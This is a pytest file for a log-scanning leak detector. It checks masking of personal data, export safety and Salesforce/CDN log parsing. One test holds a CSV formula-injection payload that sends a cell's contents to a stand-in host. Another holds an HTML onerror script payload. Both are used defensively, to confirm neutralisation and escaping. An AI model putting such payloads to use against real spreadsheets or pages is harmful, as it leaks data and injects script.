"""Cases two reviewers built by hand against export, flows and the failure patterns (each failed
before its fix): raw values in field paths, an export that replaced the database or a named pipe,
spreadsheet formulas in CSV cells, HTML in the flows table, a foreign DuckDB file, BulkApi2 row
counts, gateway calls taken for bypasses, CDN error responses and Fastly edges in P4."""
from __future__ import annotations

import csv
import io
import os
import threading

import duckdb
import pytest
from helpers import read_rows
from test_patterns_e2e import elf_csv, patterns_of, scan

from leakwatch.detect.context import data_like_key
from leakwatch.detect.enrich import safe_field_path
from leakwatch.errors import StoreError
from leakwatch.flows import _md
from leakwatch.pipeline import scan_paths
from leakwatch.store import Store


@pytest.mark.parametrize("key", ["4111 1111 1111 1111", "123-45-6789", "+1 415-555-0134", "DE89 3704 0044 0532 0130 00",
                                 "(415) 555-0134"])
def test_grouped_digits_as_a_key_are_data(key):
    assert data_like_key(key)
    assert safe_field_path(f"cards.{key}.email", True) == "cards.*.email"


@pytest.mark.parametrize("key", ["messages[0].content", "address_line_2", "v1.2.3", "ipv4", "order_id"])
def test_field_names_with_a_few_digits_stay(key):
    assert not data_like_key(key)


def _scan_json_keys(tmp_path, keys: list[str], top: bool = False):
    log = tmp_path / "app.jsonl"
    line = '{"ts":"2024-03-11T16:00:00Z","%s":{"email":"gina.r%d@example.com"}}\n' if top else \
        '{"ts":"2024-03-11T16:00:00Z","cards":{"%s":{"email":"gina.r%d@example.com"}}}\n'
    log.write_text("".join(line % (k.replace('"', '\\"'), i) for i, k in enumerate(keys)))
    db = tmp_path / "lw.duckdb"
    scan_paths([str(log)], db)
    return db


def test_a_card_number_as_a_json_key_is_not_stored_or_exported(tmp_path, cli):
    db = _scan_json_keys(tmp_path, ["4111 1111 1111 1111"])
    assert read_rows(db, "SELECT field_path FROM findings WHERE entity = 'EMAIL_ADDRESS'") == [("cards.*.email",)]
    assert not read_rows(db, "SELECT field FROM findings WHERE field LIKE '%4111%' OR field_path LIKE '%4111%'")
    r = cli("export", "--db", db, "--format", "csv")
    assert r.rc == 0 and "4111" not in r.out and "cards.*.email" in r.out


def test_csv_export_neutralises_formulas(tmp_path):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    db = _scan_json_keys(tmp_path, [formula], top=True)
    out = tmp_path / "f.csv"
    from leakwatch.cli import main
    assert main(["export", "--db", str(db), "--format", "csv", "--out", str(out)]) == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text())))
    assert rows and all(not (v or "").startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
    assert any(r["field_path"].startswith("'=HYPERLINK") for r in rows)


def test_export_refuses_to_overwrite_its_own_database(tmp_path, cli):
    db = _scan_json_keys(tmp_path, ["contact"])
    before = db.read_bytes()
    for target in (db, tmp_path / "lw.duckdb.key"):
        r = cli("export", "--db", db, "--format", "jsonl", "--out", target)
        assert r.rc == 2 and "database's own file" in r.err
    assert db.read_bytes() == before
    assert read_rows(db, "SELECT count(*) FROM findings") == [(1,)]


def test_export_into_a_named_pipe_writes_into_the_pipe(tmp_path, cli):
    db = _scan_json_keys(tmp_path, ["contact", "customer"])
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    got = []
    reader = threading.Thread(target=lambda: got.append(open(fifo).read()))
    reader.start()
    r = cli("export", "--db", db, "--format", "jsonl", "--out", fifo)
    reader.join(10)
    assert r.rc == 0
    assert len(got[0].splitlines()) == 2
    assert os.path.exists(fifo) and not os.path.isfile(fifo)  # still the pipe


def test_export_through_a_symlink_replaces_the_target_and_keeps_the_link(tmp_path, cli):
    db = _scan_json_keys(tmp_path, ["contact"])
    target = tmp_path / "real.jsonl"
    target.write_text("old\n")
    link = tmp_path / "link.jsonl"
    link.symlink_to(target)
    assert cli("export", "--db", db, "--format", "jsonl", "--out", link).rc == 0
    assert link.is_symlink() and "gina" not in target.read_text() and target.read_text().count("\n") == 1


def test_flows_markdown_cells_make_html_literal():
    assert _md("<img src=x onerror=alert(1)> & |") == "&lt;img src=x onerror=alert(1)&gt; &amp; \\|"


def test_a_foreign_duckdb_file_is_refused_untouched(tmp_path):
    path = tmp_path / "analytics.duckdb"
    con = duckdb.connect(str(path))
    con.execute("CREATE TABLE orders (id INTEGER)")
    con.close()
    for read_only in (False, True):
        with pytest.raises(StoreError, match="not leakwatch's"):
            Store.open(path, read_only=read_only)
    con = duckdb.connect(str(path), read_only=True)
    assert [t for (t,) in con.execute("SELECT table_name FROM information_schema.tables").fetchall()] == ["orders"]
    con.close()


def test_a_file_name_that_is_not_utf8_in_argv(tmp_path):
    name = os.fsdecode(b"caf\xe9.jsonl")
    log = tmp_path / name
    log.write_text('{"email":"kim@example.com"}\n')
    db = tmp_path / "lw.duckdb"
    s = scan_paths([str(log)], db, argv=["scan", str(log)])
    assert s.total_findings == 1
    [(argv,)] = read_rows(db, "SELECT argv FROM scans")
    assert "caf\\xe9.jsonl" in argv


BULK2 = ["EVENT_TYPE", "TIMESTAMP", "USER_ID", "ENTITY_TYPE", "OPERATION_TYPE", "RECORDS_PROCESSED",
         "TIMESTAMP_DERIVED", "USER_ID_DERIVED"]
CALLOUT = ["EVENT_TYPE", "TIMESTAMP", "USER_ID", "METHOD", "STATUS_CODE", "URL", "TIMESTAMP_DERIVED"]


def test_bulkapi2_records_processed_is_the_row_count_p2_reads(tmp_path):
    user = "0055j00000AT6I1"
    s = scan(tmp_path, {
        "EventLogFile_BulkApi2_2024-03-11.csv": elf_csv(BULK2, [{
            "EVENT_TYPE": "BulkApi2", "TIMESTAMP": "20240311160500.000", "USER_ID": user, "ENTITY_TYPE": "Contact",
            "OPERATION_TYPE": "query", "RECORDS_PROCESSED": "48210", "TIMESTAMP_DERIVED": "2024-03-11T16:05:00.000Z",
            "USER_ID_DERIVED": user + "AAL"}]),
        "EventLogFile_ApexCallout_2024-03-11.csv": elf_csv(CALLOUT, [{
            "EVENT_TYPE": "ApexCallout", "TIMESTAMP": "20240311162000.000", "USER_ID": user, "METHOD": "POST",
            "STATUS_CODE": "200", "URL": "https://api.openai.com/v1/chat/completions",
            "TIMESTAMP_DERIVED": "2024-03-11T16:20:00.000Z"}]),
    })
    assert read_rows(s.db, "SELECT rows_processed FROM events WHERE kind = 'bulk'") == [(48210,)]
    assert "P2_bulk_then_ai" in patterns_of(s)


def test_an_app_calling_the_gateway_url_with_the_vendor_as_upstream_goes_through_it(tmp_path):
    s = scan(tmp_path, {"apps/orders.jsonl": (
        '{"ts":"2024-03-11T16:00:00Z","user":"svc-orders","url":"https://ai-gw.acme.internal/openai/v1/chat",'
        '"upstream":"https://api.openai.com/v1/chat/completions","status":200}\n'
        '{"ts":"2024-03-11T16:02:00Z","user":"svc-billing","url":"https://api.openai.com/v1/chat/completions",'
        '"status":200}\n')}, '[egress]\napproved_gateways = ["ai-gw.acme.internal"]\n')
    assert read_rows(s.db, "SELECT line, url_host, via_gateway FROM events WHERE kind = 'ai_call' ORDER BY line") == [
        (1, "api.openai.com", True), (2, "api.openai.com", False)]
    [alert] = s.alerts("P1_gateway_bypass")
    assert alert["evidence"]["events"] == s.event_ids("apps/orders.jsonl", "ai_call", [2])


def _cdn(path: str, status: int, edge: str) -> str:
    return (f'198.51.100.7 - - [11/Mar/2024:16:00:02 +0000] "GET {path} HTTP/1.1" {status} 5120 "-" '
            f'"Mozilla/5.0" MISS pop={edge}\n')


def test_p4_counts_only_responses_that_served_content(tmp_path):
    s = scan(tmp_path, {"cdn/shop-access.log": _cdn("/genai/summary/1", 404, "NRT57-P2") +
                        _cdn("/genai/summary/2", 503, "NRT57-P2")})
    assert read_rows(s.db, "SELECT count(*) FROM events WHERE kind = 'cdn_ai'") == [(2,)]  # seen, not alerted
    assert patterns_of(s) == []
    s = scan(tmp_path / "b", {"cdn/shop-access.log": _cdn("/genai/summary/1", 200, "NRT57-P2")})
    assert patterns_of(s) == ["P4_cdn_region"]


def test_p4_allowed_regions_accept_a_fastly_edge_by_its_airport_code(tmp_path):
    files = {"cdn/shop-access.log": _cdn("/genai/summary/1", 200, "cache-fra-eddf8230042-FRA")}
    assert patterns_of(scan(tmp_path, files, '[cdn]\nallowed_regions = ["FRA"]\n')) == []
    assert patterns_of(scan(tmp_path / "b", files, '[cdn]\nallowed_regions = ["CDG"]\n')) == ["P4_cdn_region"]


def test_the_registry_places_every_edge_the_default_table_knows():
    from leakwatch.detect.egress import load_registry
    from leakwatch.detect.patterns import DEFAULT_EDGE_JURISDICTIONS

    reg = load_registry()
    missing = {code: jur for code, jur in DEFAULT_EDGE_JURISDICTIONS.items()
               if (reg.edge_jurisdiction(f"{code}50-P1") or "").upper() != jur}
    assert not missing


def test_api_gateway_user_is_the_caller_but_an_llm_body_user_is_sent(tmp_path):
    """An API Gateway access log's `user` (the caller's identity) does not travel to the
    integration's AI endpoint; OpenAI's `user` field in a request body does."""
    import json

    gw = json.dumps({"requestId": "c6af9ac6-7b61-11e6-9a41-93e8deadbeef", "ip": "203.0.113.9",
                     "user": "amy@example.com", "requestTime": "10/Jun/2023:15:36:28 +0000",
                     "httpMethod": "POST", "resourcePath": "/v1/chat", "status": "200",
                     "integrationUrl": "https://api.openai.com/v1/chat/completions"})
    app = json.dumps({"ts": "2023-06-10T15:36:29Z", "url": "https://api.openai.com/v1/chat/completions",
                      "body": {"model": "gpt-4o", "user": "bob@example.com",
                               "messages": [{"role": "user", "content": "hi"}]}})
    s = scan(tmp_path, {"apigw/access.log": gw + "\n", "app.jsonl": app + "\n"})
    assert read_rows(s.db, "SELECT format, field_path, dest_host FROM findings WHERE rule_id = 'email'"
                           " ORDER BY source_path") == [
        ("apigw", "user", None),
        ("jsonl", "body.user", "api.openai.com"),
    ]


BOM = "\ufeff"


def test_concatenated_exports_each_with_a_byte_order_mark(tmp_path):
    """Two EventLogFile exports concatenated, each starting with a UTF-8 BOM: the second header
    (BOM first) names the rows after it, in a file sniffed as an EventLogFile whether that
    header comes within the sniffer's first rows or later."""
    first = ['"EVENT_TYPE","TIMESTAMP","EMAIL","NOTE"'] + [
        f'"Login","2024031116000{i}.000","x{i}@example.com","x"' for i in range(6)]
    second = [BOM + '"EVENT_TYPE","TIMESTAMP","NOTE","USER_NAME","EMAIL"',
              '"Login","20240311170000.000","y","bob@example.com","cy@example.com"']
    s = scan(tmp_path, {"late.csv": BOM + "\n".join(first + second) + "\n",
                        "early.csv": BOM + "\n".join(first[:2] + second) + "\n"})
    assert read_rows(s.db, "SELECT path, format FROM sources ORDER BY path") == [
        (s.path("early.csv"), "eventlogfile"), (s.path("late.csv"), "eventlogfile")]
    for name, line in (("late.csv", 9), ("early.csv", 4)):
        assert read_rows(s.db, "SELECT field_path, masked FROM findings WHERE source_path = ? AND line = ?"
                               " ORDER BY start_byte", [s.path(name), line]) == [
            ("USER_NAME", "b***@e******.com"), ("EMAIL", "c***@e******.com")]


def test_a_report_export_that_repeats_its_header_is_csv(tmp_path):
    rows = ["Name,Email,Phone,order_id", "Bob Jones,bob@example.com,4155550123,1",
            "Name,Email,Phone,order_id", "Amy Poe,amy@example.com,4155550124,2"]
    s = scan(tmp_path, {"report.csv": "\n".join(rows) + "\n"})
    assert read_rows(s.db, "SELECT format FROM sources") == [("csv",)]
    assert read_rows(s.db, "SELECT line, field_path FROM findings WHERE rule_id LIKE 'phone%' ORDER BY line") == [
        (2, "Phone"), (4, "Phone")]


def test_a_log_that_starts_with_a_run_of_nuls_is_sniffed_by_its_text(tmp_path):
    """A log zero-filled after a crash: 20 KB of NULs, then JSON lines. Its format is that of
    the lines, not 'text' (which lost every field path and time)."""
    import json

    line = json.dumps({"ts": "2024-03-11T16:00:00Z", "email": "amy@example.com"})
    p = tmp_path / "app.jsonl"
    p.write_bytes(b"\0" * 20_000 + "\n".join([line] * 3).encode() + b"\n")
    scan_paths([str(p)], tmp_path / "lw.duckdb")
    assert read_rows(tmp_path / "lw.duckdb", "SELECT format FROM sources") == [("jsonl",)]
    assert read_rows(tmp_path / "lw.duckdb", "SELECT line, field_path, ts IS NOT NULL FROM findings"
                                             " WHERE line > 1 ORDER BY line") == [(2, "email", True), (3, "email", True)]


def test_a_json_url_whose_ampersands_go_wrote_as_u0026(tmp_path):
    """Go's JSON encoder writes & as \\u0026: the query string's fields are still apart, so a
    phone under `phone` is Contact.Phone and a number under `order_id` is no phone."""
    url = "https://shop.example/checkout?order_id=4155550124\\u0026phone=4155550123\\u0026email=amy@example.com"
    line = '{"time":"2024-03-11T16:00:00Z","url":"' + url + '"}\n'
    s = scan(tmp_path, {"go-app.jsonl": line})
    assert read_rows(s.db, "SELECT rule_id, field_path, sf_object || '.' || sf_field FROM findings"
                           " ORDER BY start_byte") == [
        ("phone_national", "url.query.phone", "Contact.Phone"),
        ("email", "url.query.email", "Contact.Email"),
    ]


def test_a_value_with_a_line_break_in_an_eventlogfile_export(tmp_path):
    """The second line of a quoted value that holds a line break is no row of the export: its
    e-mails are found, not under the header's first column names (which would put them under
    EVENT_TYPE and TIMESTAMP) but under the last ones, counted from the right: the line ends
    the row."""
    p = tmp_path / "EventLogFile_BulkApi_2024-03-11.csv"
    p.write_text('"EVENT_TYPE","TIMESTAMP","USER_ID","MESSAGE","EMAIL"\n'
                 '"BulkApi","20240311160001.000","0055j00000AT6I1","multi line\n'
                 'value with d@example.com here","eve@example.com"\n'
                 '"BulkApi","20240311160002.000","0055j00000AT6I1","x","frank@example.com"\n')
    summary = scan_paths([str(p)], tmp_path / "lw.duckdb")
    # Line 2 has an unterminated quote; line 3 is valid CSV, the end of line 2's row.
    assert summary.files[0].parse_problems == 1
    assert read_rows(tmp_path / "lw.duckdb", "SELECT line, field_path, masked FROM findings ORDER BY line, start_byte") == [
        (3, "MESSAGE", "d***@e******.com"), (3, "EMAIL", "e***@e******.com"), (4, "EMAIL", "f***@e******.com")]


def test_findings_of_whole_csv_cells_carry_their_rows_time(tmp_path):
    """A phone taken whole from a Phone column has its row's time, as the e-mail found by a
    regex in the same row does (TIMESTAMP_DERIVED ranks before TIMESTAMP, which is taken when
    the other does not parse)."""
    p = tmp_path / "EventLogFile_Custom_2024-03-11.csv"
    p.write_text('"EVENT_TYPE","TIMESTAMP","Phone","EMAIL","TIMESTAMP_DERIVED"\n'
                 '"ApexCallout","20240311160000.000","4155550123","alice@example.com","2024-03-11T16:00:00.250Z"\n'
                 '"ApexCallout","20240311170000.000","4155550124","bob@example.com","not a time"\n')
    scan_paths([str(p)], tmp_path / "lw.duckdb")
    rows = read_rows(tmp_path / "lw.duckdb", "SELECT line, detector, epoch_ms(ts) FROM findings ORDER BY line, start_byte")
    t = 1710172800000  # 2024-03-11T16:00:00Z
    assert rows == [(2, "column", t + 250), (2, "regex", t + 250), (3, "column", t + 3_600_000),
                    (3, "regex", t + 3_600_000)]


def test_a_rest_records_attributes_type_and_sobject_type_name_its_object(tmp_path):
    """A REST API record ({"attributes": {"type": "Lead"}, "Email": …}) holds a lead's e-mail,
    not a contact's; a record whose sobjectType is Case holds Case.SuppliedEmail."""
    import json

    lead = {"ts": "2024-03-11T16:00:00Z", "msg": "sf response",
            "record": {"attributes": {"type": "Lead", "url": "/services/data/v60.0/sobjects/Lead/00Q5j00000AbCdE"},
                       "Email": "amy@example.com", "Phone": "+4930123456789"}}
    case = {"ts": "2024-03-11T16:00:01Z", "sobjectType": "Case", "Email": "bob@example.com"}
    s = scan(tmp_path, {"app.jsonl": json.dumps(lead) + "\n" + json.dumps(case) + "\n"})
    assert read_rows(s.db, "SELECT line, rule_id, sf_object || '.' || sf_field FROM findings"
                           " WHERE rule_id IN ('email', 'phone_e164') ORDER BY line, start_byte") == [
        (1, "email", "Lead.Email"), (1, "phone_e164", "Lead.Phone"), (2, "email", "Case.SuppliedEmail")]


def test_a_custom_objects_record_id_maps_to_the_learned_object(tmp_path):
    """Custom objects' record ids (key prefix a00–azz) were no finding at all, so the prefixes
    `pull` learns from describe were never used. The 18-character form with a good checksum is
    found and named by the learned prefix; a bad checksum, the 15-character form and 18-character
    words are not."""
    from leakwatch.detect.salesforce import save_learned_prefixes, to_18

    good = to_18("a0X5g00000Inv01")
    bad = good[:15] + ("AAA" if good[15:] != "AAA" else "BBB")
    db = tmp_path / "lw.duckdb"
    with Store.open(db) as store:
        save_learned_prefixes(store.con, {"a0X": "Invoice__c"}, "https://acme.my.salesforce.com")
    p = tmp_path / "app.log"
    p.write_text(f"invoice_id={good} ok\ninvoice_id={bad} ok\ninvoice_id=a0X5g00000Inv01 ok\n"
                 "note=abcdefghijklmnopqr and accountabilities0 ok\n")
    scan_paths([str(p)], db)
    assert read_rows(db, "SELECT line, rule_id, entity, sf_object FROM findings ORDER BY line") == [
        (1, "sf_custom_record_id", "SALESFORCE_RECORD_ID", "Invoice__c")]


def test_an_address_used_as_a_key_hides_but_keeps_the_field_it_names(tmp_path):
    """An e-mail address as a JSON key is stored as `*` (a leak detector must not store it),
    yet the value under it still maps to its field (contacts.<address>.phone → Contact.Phone);
    in a text line the domain of `jane.doe@example.com=+44…` is no key name either."""
    import json

    rec = {"ts": "2024-03-11T10:00:00Z", "contacts": {"jane.doe@example.com": {"phone": "+44 20 7946 0958"}}}
    s = scan(tmp_path, {"app.jsonl": json.dumps(rec) + "\n",
                        "app.log": "2024-03-11T10:05:00Z INFO saved jane.doe@example.com=+44 20 7946 0958\n"})
    rows = read_rows(s.db, "SELECT source_path, field, field_path, sf_object || '.' || sf_field FROM findings"
                           " WHERE rule_id = 'phone_e164' ORDER BY source_path")
    assert rows == [(s.path("app.jsonl"), "", "*", "Contact.Phone"), (s.path("app.log"), "*", "*", None)]
    for r in read_rows(s.db, "SELECT field, field_path FROM findings"):
        assert not any(x and ("example" in x or "jane" in x) for x in r), r


def test_a_name_column_holding_an_email_is_one_email_not_a_name_too(tmp_path):
    """EventLogFile USER_NAME holds the login, often an e-mail address: one EMAIL finding, not
    also a PERSON_NAME over the whole address from the name-column path."""
    p = tmp_path / "EventLogFile_URI_2024-03-11.csv"
    p.write_text('"EVENT_TYPE","TIMESTAMP","USER_ID","USER_NAME","CLIENT_IP"\n'
                 '"URI","20240311160000.000","0055j00000AT6I1","jane.doe@example.com","81.2.69.142"\n'
                 '"URI","20240311160001.000","0055j00000AT6I1","Jane Doe","81.2.69.142"\n')
    scan_paths([str(p)], tmp_path / "lw.duckdb")
    assert read_rows(tmp_path / "lw.duckdb", "SELECT line, entity FROM findings WHERE field_path = 'USER_NAME'"
                                             " ORDER BY line") == [(2, "EMAIL_ADDRESS"), (3, "PERSON_NAME")]


def test_a_name_json_dumps_escaped_hashes_like_the_same_name_in_utf8(tmp_path):
    """Python's json.dumps writes José as Jos\\u00e9: the whole name is found (not "Jos"), its
    mask shows its first letter, and its keyed hash is that of the UTF-8 José in another log,
    so the two count as one data subject."""
    import json

    s = scan(tmp_path, {"py.jsonl": json.dumps({"firstName": "José", "lastName": "Müller"}) + "\n",
                        "go.jsonl": json.dumps({"firstName": "José"}, ensure_ascii=False) + "\n"})
    rows = read_rows(s.db, "SELECT source_path, end_byte - start_byte, masked, value_hash FROM findings"
                           " WHERE rule_id = 'person_name' ORDER BY source_path, start_byte")
    assert [(r[1], r[2]) for r in rows] == [(5, "J***"), (9, "J***"), (11, "M***")]
    assert rows[0][3] == rows[1][3]  # José and Jos\u00e9: one value
